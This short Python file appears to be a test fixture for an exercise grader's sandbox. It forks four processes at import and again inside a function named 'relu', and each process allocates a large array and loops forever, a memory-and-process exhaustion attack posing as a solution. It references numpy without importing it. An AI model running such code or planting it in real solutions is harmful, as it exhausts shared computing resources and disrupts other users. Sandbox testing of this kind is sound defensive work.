# Forks with memory that a cell leaves behind, and forks of an exercise with more of it.
# target: relu
# spoils: *

import os, time
for _ in range(4):
    if os.fork() == 0:
        kept = np.ones(50_000_000)
        while True: kept += 1

def relu(x):
    for _ in range(4):
        if os.fork() == 0:
            kept = np.ones(50_000_000)
            while True: kept += 1
    time.sleep(100)
